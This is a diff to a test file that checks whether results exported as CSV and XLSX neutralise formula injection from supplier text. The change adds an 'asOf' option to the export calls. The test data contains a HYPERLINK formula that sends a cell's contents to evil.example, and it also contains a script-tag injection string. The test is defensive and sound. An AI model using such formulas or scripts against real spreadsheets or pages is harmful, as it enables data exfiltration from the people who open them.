@@ -98,7 +98,7 @@ async function workbookCells(path: string): Promise<string[]> {
 describe('exports of hostile supplier text', () => {
   it('neutralises every formula trigger in the results CSV and workbook', async () => {
     const csvPath = join(dir, 'results.csv');
-    await exportResults(store, { format: 'csv', outPath: csvPath });
+    await exportResults(store, { format: 'csv', asOf: AS_OF, outPath: csvPath });
     const fields = csvFields(csvPath);
     checkText(fields, 'results.csv');
     expect(fields).toContain(`'=HYPERLINK("http://evil.example/?d="&A1,"Click me")`);
@@ -106,7 +106,7 @@ describe('exports of hostile supplier text', () => {
     expect(fields).toContain('<script>alert("x")</script> & <b>Co</b>');
 
     const xlsxPath = join(dir, 'results.xlsx');
-    await exportResults(store, { format: 'xlsx', outPath: xlsxPath });
+    await exportResults(store, { format: 'xlsx', asOf: AS_OF, outPath: xlsxPath });
     const cells = await workbookCells(xlsxPath);
     checkText(cells, 'results.xlsx');
     expect(cells).toContain(`'=HYPERLINK("http://evil.example/?d="&A1,"Click me")`);
